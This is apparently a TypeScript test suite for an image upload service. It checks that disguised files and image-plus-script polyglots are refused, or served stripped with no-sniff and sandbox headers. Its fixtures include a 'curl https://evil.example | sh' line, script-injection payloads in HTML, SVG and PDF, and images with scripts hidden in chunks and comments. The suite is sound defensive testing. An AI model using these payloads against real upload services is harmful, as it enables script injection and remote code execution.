/** What an end user uploads under any name and type: images by content, delivered without anything that is not of the image. */
import { beforeAll, describe, expect, test } from 'bun:test'
import { animation, bytesOf, disc, photo } from '../../email/image/images.ts'
import { type TestService, startService } from '../../support/service.ts'
import { dialects } from '../../support/store.ts'
import { type TestDesk, type Host, type Upload, makeHost, openTestService, uploadFrom } from './host.ts'

const script = '<script>alert("MARKER")</script>'
const ascii = (text: string) => new TextEncoder().encode(text)
const joined = (...parts: (Uint8Array | string)[]) =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? ascii(part) : part)))

/** Programs, pages and documents, told by how they begin. */
const files: Record<string, Uint8Array> = {
  'a Windows program': joined('MZ\u0090\0\u0003\0', new Uint8Array(200)),
  'a Linux program': joined('\u007fELF\u0002\u0001\u0001', new Uint8Array(200)),
  'a shell script': ascii('#!/bin/sh\ncurl https://evil.example | sh\n'),
  'a batch file': ascii('@echo off\r\nstart https://evil.example\r\n'),
  'a page': ascii(`<!doctype html><title>Sign in</title>${script}`),
  'a page behind white space and a comment': ascii(`\n\n <!-- GIF89a --><html>${script}</html>`),
  'an XHTML page': ascii(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`),
  'a script': ascii('alert("MARKER")'),
  'a PDF with JavaScript': ascii('%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert("MARKER"))>>>>endobj'),
  'an archive': joined('PK\u0003\u0004', new Uint8Array(60)),
  'a page that begins as a bitmap': ascii(`BM${script}`),
  'a page that begins as a TIFF': joined('II*\0', script),
  'a video': joined('\0\0\0\u0018ftypmp42', new Uint8Array(60)),
  'a table': ascii('name,email\nA,a@example.com\n'),
  'nothing that is known': new Uint8Array(64).fill(0x81),
}

/** Names and types that belong to images, or to nothing of the kind. */
const claims: [name: string, type: string][] = [
  ['photo.png', 'image/png'],
  ['photo.jpg.exe', 'image/jpeg'],
  ['logo.svg', 'image/svg+xml'],
  ['invoice.exe', 'application/octet-stream'],
  ['login.html', 'text/html'],
]

describe.each([...dialects])('uploads of an end user on %s', (dialect) => {
  let service: TestService
  let host: Host
  let testService: TestDesk
  let polyglots: Record<string, Uint8Array>

  beforeAll(async () => {
    service = await startService({ dialect, environment: { SVC_PLUGIN_RATE_LIMIT: '10000/60' } })
    host = await makeHost(service)
    testService = await openTestService(service, host, { emailId: 'x', claims: { emailId: 'x' } })
    const png = await bytesOf(photo(20, 10).png())
    const jpeg = await bytesOf(photo(21, 10).jpeg())
    const gif = await bytesOf(disc(20).gif())
    const webp = await bytesOf(photo(22, 10).webp())
    const chunk = (type: string, data: Uint8Array) => {
      const body = joined(type, data)
      const numbers = Buffer.alloc(8)
      numbers.writeUInt32BE(data.length, 0)
      numbers.writeUInt32BE(Bun.hash.crc32(body), 4)
      return joined(numbers.subarray(0, 4), body, numbers.subarray(4))
    }
    const comment = ascii(`${script}${' '.repeat(40)}`)
    polyglots = {
      'a PNG with a page behind it': joined(png, script),
      'a PNG with an archive behind it': joined(png, 'PK\u0003\u0004MARKER', new Uint8Array(60)),
      'a PNG with a page in a text chunk': joined(
        png.slice(0, 33),
        chunk('tEXt', ascii(`Comment\0${script}`)),
        png.slice(33),
      ),
      'a PNG with a page in a private chunk': joined(png.slice(0, 33), chunk('prVt', ascii(script)), png.slice(33)),
      'a JPEG with a page in its comment': joined(
        jpeg.slice(0, 2),
        new Uint8Array([0xff, 0xfe, 0, comment.length + 2]),
        comment,
        jpeg.slice(2),
      ),
      'a JPEG with a page behind it': joined(jpeg, script),
      'a GIF with a Java archive behind it': joined(gif, 'PK\u0003\u0004MARKER', new Uint8Array(60)),
      'a GIF with a page in its comment': joined(
        gif.slice(0, -1),
        new Uint8Array([0x21, 0xfe, comment.length]),
        comment,
        new Uint8Array([0, 0x3b]),
      ),
      'a WebP with a page behind it': joined(webp, script),
      'an SVG with a script': ascii(
        `<svg xmlns="http://www.w3.org/2000/svg" width="20" height="10" onload="alert('MARKER')">${script}<rect width="9" height="9"/></svg>`,
      ),
      'an SVG with a page in it': ascii(
        `<svg xmlns="http://www.w3.org/2000/svg" width="21" height="10"><foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:alert('MARKER')"/></body></foreignObject><rect width="9" height="9"/></svg>`,
      ),
      'an SVG with links and styles of others': ascii(
        `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="22" height="10"><a xlink:href="javascript:alert('MARKER')"><rect width="9" height="9"/></a><style>@import "https://evil.example/MARKER"</style></svg>`,
      ),
    }
  })

  const send = (upload: Upload) => uploadFrom(service, testService, upload)
  const usage = async () => (await service.store.read.select().from(service.store.read.tables.assets)).length

  test.each(Object.entries(files))('are not %s, whatever its name and type claim', async (_, bytes) => {
    const before = await usage()
    for (const [name, type] of claims) {
      const answer = await send({ bytes, name, type })
      expect([name, answer.status, answer.body]).toMatchObject([
        name,
        422,
        { code: 'ASSET_TYPE_REFUSED', details: 'Send an image: PNG, JPEG, GIF, WebP or SVG.', isRecoverable: true },
      ])
    }
    expect(await usage()).toBe(before)
  })

  test('that are images and something else at once are delivered as the image alone, inline and without sniffing', async () => {
    const queries = ['', '?w=10', '?format=png', '?format=webp', '?w=3&h=3&fit=cover']
    for (const [what, bytes] of Object.entries(polyglots)) {
      const answer = await send({ bytes, name: 'login.html', type: 'text/html' })
      // Some are damaged as images, and refused.
      if (answer.status === 422) {
        expect([what, answer.body]).toMatchObject([what, { code: 'ASSET_INVALID' }])
        continue
      }
      expect([what, answer.status]).toEqual([what, 201])
      const { url, name } = answer.body as { url: string; name: string }
      expect(name).toMatch(/^login\.html\.(png|jpg|gif|webp|svg)$/)
      for (const query of queries) {
        const shown = await service.handle(new Request(`${url}${query}`))
        const body = Buffer.from(await shown.arrayBuffer()).toString('latin1')
        expect([what, query, shown.status, shown.headers.get('content-type')]).toEqual([
          what,
          query,
          200,
          expect.stringMatching(/^image\/(png|jpeg|gif|webp)$/),
        ])
        expect([what, query, /MARKER|script|PK\u0003\u0004/.test(body)]).toEqual([what, query, false])
        expect(shown.headers.get('x-content-type-options')).toBe('nosniff')
        expect(shown.headers.get('content-security-policy')).toContain("default-src 'none'")
        expect(shown.headers.get('content-security-policy')).toContain('sandbox')
      }
    }
  })

  test('most of those are accepted: the test above looks at what is delivered', async () => {
    const other = await openTestService(service, await makeHost(service), { emailId: 'y' })
    const answers = await Promise.all(
      Object.values(polyglots).map((bytes) => uploadFrom(service, other, { bytes, name: 'x.png' })),
    )
    expect(answers.filter(({ status }) => status === 201).length).toBeGreaterThan(8)
  })

  test('may be files where the signed token says so, and are then saved by browsers, never shown', async () => {
    const all = await openTestService(service, host, { emailId: 'x', claims: { emailId: 'x', files: 'all' } })
    const answer = await uploadFrom(service, all, { bytes: '%PDF-1.7\nMARKER', name: 'terms.pdf' })
    expect(answer).toMatchObject({ status: 201, body: { mime: 'application/pdf' } })
    const shown = await service.handle(new Request((answer.body as { url: string }).url))
    expect(shown.headers.get('content-disposition')).toStartWith('attachment')
    expect(shown.headers.get('content-security-policy')).toContain('sandbox')
  })

  test('keep a name that fits their format', async () => {
    const bytes = await animation('gif')
    expect((await send({ bytes, name: 'Wave.GIF' })).body).toMatchObject({ name: 'Wave.GIF', mime: 'image/gif' })
  })
})
